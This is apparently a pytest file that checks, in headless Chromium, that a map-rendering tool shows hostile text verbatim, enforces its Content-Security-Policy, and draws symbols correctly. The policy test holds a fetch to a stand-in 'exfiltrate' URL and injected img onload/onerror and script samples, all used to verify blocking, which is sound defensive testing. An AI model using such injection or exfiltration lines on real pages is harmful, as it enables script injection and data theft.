"""Issue 8 in real headless Chromium: hostile text stays text, the policy holds, every screen size works,
and symbols are drawn where the data (read independently of the renderer) puts them."""

import csv
import json
import math
import shutil

import pytest
from click.testing import CliRunner
from hostile import CONTROL, PAYLOADS

import geo
from cli import MAPS, main
from conftest import DATA, csv_rows, edit_csv, open_map
from geo.checks import check_name
from geo.names import normalize
from geo.spec import MAX_SUBTITLE, MAX_TITLE, load_spec

RECORD = "base-tahoua-drones-2022-05"
RECORD_FIELDS = ["summary", "note", "actors", "place_text", "date_text", "fatalities_text"]
SOURCE = "marsad-2022-05-24"  # cited by RECORD


def toml_string(text: str) -> str:
    # A JSON string without ASCII escaping is a valid TOML basic string.
    return json.dumps(text, ensure_ascii=False)


# -- hostile text, batched (issue 21) ---------------------------------------------------------------------
# A build per payload took minutes. Now each build carries a batch of payloads, each in a slot of its own that
# repeats the single-payload layout: its own record (a copy of RECORD) citing its own source (a copy of SOURCE),
# placed at its own town (as Tahoua: the payload is that town's source and alternative names), and its own
# labelled town renamed to the payload (as Dori). The batch's payloads are joined into the spec's title and
# subtitle, which must come out whole and verbatim. Every slot is checked on its own (popups, label, the page's
# elements after its popups), and anything the whole page shows (an error, a dialog, a request, a script that
# ran) fails every slot. A payload whose batch fails is checked again alone, in a build of its own, so a
# failure names that payload and only it.
SLOTS = [
    ("Tahoua", "dori", "Dori"),
    ("Abala", "douentza", "Douentza"),
    ("Ayorou", "ouallam", "Ouallam"),
    ("Ansongo", "djibo", "Djibo"),
]
TOWN_IDS = {"Tahoua": "tahoua", "Abala": "abala", "Ayorou": "ayorou", "Ansongo": "ansongo"}
JOIN = " | "

SHOW = """async ([slots]) => {
  const wait = ms => new Promise(r => setTimeout(r, ms));
  // The popup just opened (a closing one fades out for 200 ms and is still in the page meanwhile).
  const popup = () => { const all = document.querySelectorAll('.leaflet-popup-content'); return all[all.length - 1].textContent; };
  const shown = [];
  for (const slot of slots) {
    const out = {};
    out.found = LG.openRecord(slot.record);
    out.record = popup();
    LG.openPlace(slot.town);
    out.tahoua = popup();
    out.opened = LG.openPlace(slot.name);
    out.place = popup();
    await wait(400);
    out.tags = {};
    document.querySelectorAll('*').forEach(e => { out.tags[e.tagName] = (out.tags[e.tagName] || 0) + 1; });
    shown.push(out);
  }
  return {
    slots: shown,
    labels: Array.from(document.querySelectorAll('.lg-label')).map(e => e.textContent),
    title: document.querySelector('.lg-title summary').textContent,
    subtitle: document.querySelector('.lg-title .lg-sub').textContent,
    doctitle: document.title,
    pwned: window.__pwned !== undefined || ({}).polluted !== undefined,
  };
}"""


def append_row(path, row_id: str, new_id: str, **changes) -> None:
    """Add a copy of the row ``row_id`` of a CSV file under the id ``new_id``, with ``changes``."""
    with open(path, encoding="utf-8", newline="") as fh:
        reader = csv.DictReader(fh)
        fields, rows = reader.fieldnames, list(reader)
    row = dict(next(r for r in rows if r["id"] == row_id), id=new_id, **changes)
    with open(path, "a", encoding="utf-8", newline="") as fh:
        csv.DictWriter(fh, fieldnames=fields, lineterminator="\n").writerow(row)


def build_batch(browser, tmp, payloads: list[str]) -> list[list[str]]:  # noqa: C901 -- one check per way a payload could show
    """Build one map carrying ``payloads`` (one slot each), open it, and return each payload's problems."""
    assert 1 <= len(payloads) <= len(SLOTS)
    data = tmp / "data"
    shutil.copytree(DATA, data)
    canary = tmp / "pwned.txt"
    texts = [p.replace("CANARY", str(canary)) for p in payloads]
    slots = []
    for j, text in enumerate(texts):
        town, named_id, named = SLOTS[j]
        append_row(data / "sources.csv", SOURCE, f"hostile-source-{j}", publisher=text, title=text, says=text, url=text)
        append_row(
            data / "records.csv",
            RECORD,
            f"hostile-slot-{j}",
            places=town,
            sources=f"adf-2022; hostile-source-{j}",
            **{f: text for f in RECORD_FIELDS},
        )
        try:
            check_name(text)
            as_name = True
        except ValueError:
            as_name = False  # names refuse invisible controls (tested in test_failsafe); free text keeps them
        edit_csv(data / "places.csv", TOWN_IDS[town], source=text, **({"alt_names": text} if as_name else {}))
        if as_name:
            edit_csv(data / "places.csv", named_id, name=text)
        slots.append(
            {"record": f"hostile-slot-{j}", "town": town, "name": text if as_name else named, "as_name": as_name}
        )
    titled = [t for t in texts if len(t) <= MAX_TITLE]
    title = JOIN.join(titled) if titled else "long payload"
    assert len(title) <= MAX_TITLE, "a batch's title must fit"
    subtitled = [t for t in texts if len(t) <= MAX_SUBTITLE]
    subtitle = JOIN.join(subtitled) if subtitled else "long payload"
    assert len(subtitle) <= MAX_SUBTITLE, "a batch's subtitle must fit"
    spec = tmp / "hostile.toml"
    spec.write_text(f"title = {toml_string(title)}\nsubtitle = {toml_string(subtitle)}\n", encoding="utf-8")
    path = tmp / "map.html"
    path.write_text(geo.render_html(geo.load(data), load_spec(spec)), encoding="utf-8")
    problems = [[] for _ in texts]
    if canary.exists():
        problems = [["the canary file was created while building"] for _ in texts]
    page, seen = open_map(browser, path)
    shown = page.evaluate(SHOW, [slots])
    page.close()
    everywhere = []
    if seen["dialogs"] or seen["requests"] or seen["errors"]:
        everywhere.append(f"dialogs {seen['dialogs']}, requests {seen['requests']}, errors {seen['errors']}")
    if shown["pwned"] or canary.exists():
        everywhere.append("a script ran (window.__pwned, a polluted prototype or the canary file)")
    base = baselines(browser, tmp.parent, len(texts))
    for j, (text, slot, out) in enumerate(zip(texts, slots, shown["slots"], strict=True)):
        bad = problems[j] + everywhere
        if not out["found"]:
            bad.append(f"LG.openRecord could not find the record {slot['record']!r}")
        if not out["opened"]:
            bad.append(f"LG.openPlace could not find the place named {slot['name']!r}")
        # The same elements as a map of plain text: nothing was injected.
        if out["tags"] != base[j]["tags"]:
            bad.append(f"the page's elements differ from a plain-text map's: {out['tags']} != {base[j]['tags']}")
        if text not in out["record"] or out["record"].count(text) < len(RECORD_FIELDS) + 3:
            # every record field, and the source's publisher and title and the place's source
            bad.append(f"the record popup does not show it verbatim in every field: {out['record'][:2000]!r}")
        if slot["as_name"] and ";" not in text and text not in out["tahoua"]:  # alt_names are separated by ';'
            bad.append(f"the town popup does not show it as an alternative name: {out['tahoua'][:2000]!r}")
        if slot["as_name"] and (text not in out["place"] or not any(text in label for label in shown["labels"])):
            bad.append("the renamed town's popup or label does not show it verbatim")
        problems[j] = bad
    if titled and (shown["title"] != title or shown["doctitle"] != title or shown["subtitle"] != subtitle):
        for j, text in enumerate(texts):
            if len(text) <= MAX_TITLE:
                problems[j].append(
                    f"title {shown['title']!r}, page title {shown['doctitle']!r}, subtitle "
                    f"{shown['subtitle']!r}; wanted {title!r} and {subtitle!r}"
                )
    return problems


_BASELINES: dict = {}


def baselines(browser, tmp, n: int) -> list[dict]:
    """What a map of ``n`` plain-text slots shows, slot by slot (built once per ``n``)."""
    if n not in _BASELINES:
        where = tmp / f"baseline-{n}"
        where.mkdir()
        _BASELINES[n] = _plain(browser, where, n)
    return _BASELINES[n]


def _plain(browser, tmp, n):
    data = tmp / "data"
    shutil.copytree(DATA, data)
    slots = []
    for j in range(n):
        text = f"baseline text {j}"
        town, named_id, _ = SLOTS[j]
        append_row(data / "sources.csv", SOURCE, f"hostile-source-{j}", publisher=text, title=text, says=text, url=text)
        append_row(
            data / "records.csv",
            RECORD,
            f"hostile-slot-{j}",
            places=town,
            sources=f"adf-2022; hostile-source-{j}",
            **{f: text for f in RECORD_FIELDS},
        )
        edit_csv(data / "places.csv", TOWN_IDS[town], source=text, alt_names=text)
        edit_csv(data / "places.csv", named_id, name=text)
        slots.append({"record": f"hostile-slot-{j}", "town": town, "name": text})
    spec = tmp / "plain.toml"
    spec.write_text('title = "baseline text"\nsubtitle = "baseline text"\n', encoding="utf-8")
    path = tmp / "map.html"
    path.write_text(geo.render_html(geo.load(data), load_spec(spec)), encoding="utf-8")
    page, seen = open_map(browser, path)
    shown = page.evaluate(SHOW, [slots])
    page.close()
    assert seen["errors"] == [] and not shown["pwned"]
    for j, out in enumerate(shown["slots"]):  # every slot works with plain text
        text = f"baseline text {j}"
        assert (
            out["found"]
            and out["opened"]
            and out["record"].count(text) >= len(RECORD_FIELDS) + 3
            and text in out["tahoua"]
        ), j
        assert text in out["place"] and any(text in label for label in shown["labels"]), (j, shown["labels"])
    return shown["slots"]


def batches(payloads: list[str]) -> list[list[int]]:
    """Indexes of ``payloads`` in batches of at most len(SLOTS), whose joined titles fit, and where no payload
    is part of another (a check that the text is shown must not be met by another slot's text)."""
    out: list[list[int]] = []
    for i, p in enumerate(payloads):
        for b in out:
            texts = [payloads[k] for k in b] + [p]
            room = MAX_TITLE - (200 if any("CANARY" in t for t in texts) else 0)  # CANARY becomes a path
            fits = len(JOIN.join(t for t in texts if len(t) <= MAX_TITLE)) <= room
            apart = all(p not in q and q not in p for q in texts[:-1])
            if len(b) < len(SLOTS) and fits and apart:
                b.append(i)
                break
        else:
            out.append([i])
    return out


BATCHES = batches(PAYLOADS)


@pytest.fixture(scope="module")
def hostile_results(browser, tmp_path_factory):
    """Each payload's problems in its batch (index -> list of problems)."""
    tmp = tmp_path_factory.mktemp("hostile")
    results = {}
    for n, batch in enumerate(BATCHES):
        where = tmp / f"batch-{n}"
        where.mkdir()
        for i, problems in zip(batch, build_batch(browser, where, [PAYLOADS[i] for i in batch]), strict=True):
            results[i] = problems
    return results


@pytest.mark.parametrize("index", range(len(PAYLOADS)), ids=[f"p{i:02d}" for i in range(len(PAYLOADS))])
def test_hostile_text_shows_verbatim_and_runs_nothing(browser, hostile_results, tmp_path, index):
    payload = PAYLOADS[index]
    if hostile_results[index]:
        # Its batch failed: this payload alone, so the failure (if it is this payload's) names it.
        alone = tmp_path / "alone"
        alone.mkdir()
        problems = build_batch(browser, alone, [payload])[0]
        assert problems == [], f"payload {index} {payload[:200]!r}: {problems}"


def test_batches_cover_every_payload_once():
    assert sorted(i for b in BATCHES for i in b) == list(range(len(PAYLOADS)))
    assert len(BATCHES) <= len(PAYLOADS) // 2


@pytest.mark.parametrize("payload", CONTROL, ids=["nul", "escape", "backspace"])
def test_control_characters_are_refused_with_file_row_and_column(data_copy, tmp_path, payload):
    edit_csv(data_copy / "records.csv", RECORD, note=payload)
    edit_csv(data_copy / "sources.csv", SOURCE, title=payload)
    edit_csv(data_copy / "places.csv", "dori", name=payload)
    out = tmp_path / "map.html"
    out.write_text("last good map", encoding="utf-8")
    result = CliRunner().invoke(main, ["build", "--data", str(data_copy), "--out", str(out)])
    assert result.exit_code == 1 and "Traceback" not in result.output
    rows = {r["id"]: i + 2 for i, r in enumerate(csv_rows("records.csv"))}
    srows = {r["id"]: i + 2 for i, r in enumerate(csv_rows("sources.csv"))}
    prows = {r["id"]: i + 2 for i, r in enumerate(csv_rows("places.csv"))}
    for file, row, col in (
        ("records.csv", rows[RECORD], "note"),
        ("sources.csv", srows[SOURCE], "title"),
        ("places.csv", prows["dori"], "name"),
    ):
        assert f"{data_copy / file}, row {row}, column {col!r}" in result.output
    assert "contains the control character" in result.output
    assert out.read_text(encoding="utf-8") == "last good map"


def test_a_100_kb_cell_is_refused_clearly(data_copy):
    edit_csv(data_copy / "records.csv", RECORD, note="A" * 100_000)
    result = CliRunner().invoke(main, ["validate", "--data", str(data_copy)])
    row = [r["id"] for r in csv_rows("records.csv")].index(RECORD) + 2
    assert result.exit_code == 1
    assert f"records.csv, row {row}, column 'note'" in result.output
    assert "is 100000 characters long; the map shows at most 5000 per cell" in result.output


def test_long_spec_text_is_refused_clearly(tmp_path):
    spec = tmp_path / "long.toml"
    spec.write_text(f"title = {toml_string('A' * 100_000)}\n", encoding="utf-8")
    result = CliRunner().invoke(main, ["validate", str(spec)])
    assert result.exit_code == 1 and "is 100000 characters long; keep it under 300" in result.output


# -- the Content-Security-Policy ------------------------------------------------------------------------


def test_policy_refuses_network_inline_handlers_and_eval(browser, tmp_path, html):
    path = tmp_path / "map.html"
    path.write_text(html, encoding="utf-8")
    page, seen = open_map(browser, path)
    result = page.evaluate("""async () => {
        const violations = [];
        document.addEventListener('securitypolicyviolation', e => violations.push(e.violatedDirective));
        let fetched = 'ok';
        try { await fetch('https://example.com/exfiltrate?x=1'); } catch (e) { fetched = 'refused'; }
        // Markup that got into the page as HTML anyway: its handler and script must not run.
        document.body.insertAdjacentHTML('beforeend',
            '<img src="data:," onload="window.__pwned=1"><img src="x" onerror="window.__pwned=2">');
        const s = document.createElement('script'); s.textContent = 'window.__pwned = 3'; document.body.appendChild(s);
        setTimeout('window.__pwned = 4', 0);  // a string evaluated as code: needs 'unsafe-eval'
        await new Promise(r => setTimeout(r, 200));
        return {fetched, pwned: window.__pwned === undefined ? null : window.__pwned, violations};
    }""")
    assert result["fetched"] == "refused" and result["pwned"] is None
    assert {"connect-src", "script-src-elem", "script-src-attr", "script-src"} <= set(result["violations"])
    assert seen["requests"] == []  # refused by the page itself, before the network


# -- every screen size --------------------------------------------------------------------------------

SIZES = [(320, 480), (375, 667), (760, 500), (1280, 800), (3840, 2160)]
SHIPPED = sorted(MAPS.glob("*.html"))

MEASURE = """() => {
  const map = LG.map, size = map.getSize(), z = map.getZoom(), c = map.getCenter();
  const inView = LG.symbols.map(s => {
    const p = map.latLngToContainerPoint(s.marker.getLatLng()), ll = s.marker.getLatLng();
    return {lat: ll.lat, lon: ll.lng, x: p.x, y: p.y};
  });
  const area = el => { if (!el || !el.offsetParent) return 0; const r = el.getBoundingClientRect(); return r.width * r.height; };
  const panels = ['.lg-title', '.lg-legend', '.leaflet-control-layers', '.leaflet-control-zoom']
    .map(s => area(document.querySelector(s)));
  const b = map.getBounds();
  return {w: size.x, h: size.y, zoom: z, lat: c.lat, lon: c.lng, symbols: inView, panels,
          bounds: [b.getWest(), b.getSouth(), b.getEast(), b.getNorth()],
          nan: document.body.innerHTML.includes('NaN')};
}"""


@pytest.mark.parametrize("size", SIZES, ids=[f"{w}x{h}" for w, h in SIZES])
@pytest.mark.parametrize("html_path", SHIPPED, ids=[p.stem for p in SHIPPED])
def test_map_works_at_every_screen_size(browser, tmp_path, html_path, size):
    path = tmp_path / html_path.name
    shutil.copy(html_path, path)
    page, seen = open_map(browser, path, width=size[0], height=size[1])
    m = page.evaluate(MEASURE)
    page.close()
    assert seen["errors"] == [] and not m["nan"]
    assert math.isfinite(m["zoom"]) and math.isfinite(m["lat"]) and math.isfinite(m["lon"])
    assert (m["w"], m["h"]) == size
    west, south, east, north = load_spec(html_path.with_suffix(".toml")).bbox
    bw, bs, be, bn = m["bounds"]
    if size[0] < 480 or size[1] < 320:
        # A phone opens on the data (issue 22): the records in the focus are in view (below), no farther out
        # than the focus would be (within a zoom step: the overview's records span 5.8 of its 7.4 degrees).
        assert be - bw <= 1.2 * (east - west)
    else:
        # The spec's focus is in view.
        assert bw <= west and bs <= south and be >= east and bn >= north
    # Every symbol in the focus is drawn inside the map.
    for s in m["symbols"]:
        if west <= s["lon"] <= east and south <= s["lat"] <= north:
            assert 0 <= s["x"] <= size[0] and 0 <= s["y"] <= size[1], s
    assert len(m["symbols"]) > 0
    # The panels (title, legend, layer list, zoom) cover at most a third of the map.
    assert sum(m["panels"]) <= size[0] * size[1] / 3, m["panels"]


def test_narrow_screen_starts_with_panels_folded(browser, tmp_path):
    path = tmp_path / "map.html"
    shutil.copy(MAPS / "liptako-gourma.html", path)
    page, _ = open_map(browser, path, width=375, height=667)
    state = page.evaluate("""() => ({legend: document.getElementById('lg-legend').open,
        title: document.querySelector('.lg-title').open,
        layers: document.querySelector('.leaflet-control-layers-expanded') !== null})""")
    assert state == {"legend": False, "title": False, "layers": False}
    page.locator(".lg-legend summary").click()
    assert page.evaluate("document.getElementById('lg-legend').open") is True


# -- symbols are drawn where the data puts them ----------------------------------------------------------


def expected_points() -> dict[str, list[tuple[float, float, float]]]:
    """Record id -> (lat, lon, radius_km) of each of its places, read from the CSV files alone."""
    places = {}
    for p in csv_rows("places.csv"):
        for n in [p["name"], *p["alt_names"].split(";")]:
            if n.strip():
                places.setdefault(normalize(n), p)
    out = {}
    for r in csv_rows("records.csv"):
        pts = []
        for name in filter(None, (x.strip() for x in r["places"].split(";"))):
            p = places[normalize(name)]
            radius = max(float(p["radius_km"]), float(r["near_km"] or 0))
            pts.append((float(p["lat"]), float(p["lon"]), radius))
        out[r["id"]] = pts
    return out


DRAWN = """() => LG.symbols.map(s => {
  const r = s.marker._path.getBoundingClientRect(), box = LG.map.getContainer().getBoundingClientRect();
  return {id: s.id, x: r.left + r.width / 2 - box.left, y: r.top + r.height / 2 - box.top};
})"""
PROJECT = "([lat, lon]) => { const p = LG.map.latLngToContainerPoint([lat, lon]); return [p.x, p.y]; }"
CIRCLES = """() => Array.from(document.querySelectorAll('.leaflet-lg-records-pane path.lg-uncertainty'))
  .map(p => { const r = p.getBoundingClientRect(); return {h: r.height}; })"""


def test_record_symbols_and_radii_are_drawn_where_the_csv_says(browser, tmp_path, html):
    path = tmp_path / "map.html"
    path.write_text(html, encoding="utf-8")
    page, _ = open_map(browser, path)
    expected = expected_points()
    drawn = page.evaluate(DRAWN)
    assert sorted({d["id"] for d in drawn}) == sorted(k for k, v in expected.items() if v)
    for rid in {d["id"] for d in drawn}:
        got = sorted((round(d["x"]), round(d["y"])) for d in drawn if d["id"] == rid)
        want = sorted(tuple(round(v) for v in page.evaluate(PROJECT, [lat, lon])) for lat, lon, _ in expected[rid])
        assert len(got) == len(want), rid
        for (gx, gy), (wx, wy) in zip(got, want, strict=True):
            assert abs(gx - wx) <= 1.5 and abs(gy - wy) <= 1.5, (rid, got, want)
    # Uncertainty rings: their height on screen is twice the radius, projected at their latitude.
    want_heights = []
    for pts in expected.values():
        for lat, lon, km in pts:
            if km > 0:
                dlat = km / 111.2  # km per degree of latitude (the ring's north-south extent)
                top = page.evaluate(PROJECT, [lat + dlat, lon])[1]
                bottom = page.evaluate(PROJECT, [lat - dlat, lon])[1]
                want_heights.append(bottom - top)
    # A ring is drawn for the row the pointer is on (or whose popup is open), one at a time: each in turn.
    got_heights = []
    for i in page.evaluate("LG.symbols.map(s => s.i)"):
        page.evaluate(f"LG.symbology.hover({i})")
        got_heights += [c["h"] for c in page.evaluate(CIRCLES)]
        page.evaluate("LG.symbology.unhover()")
    assert page.evaluate(CIRCLES) == []
    got_heights.sort()
    assert len(got_heights) == len(want_heights)
    for got, want in zip(got_heights, sorted(want_heights), strict=True):
        assert got == pytest.approx(want, rel=0.05)
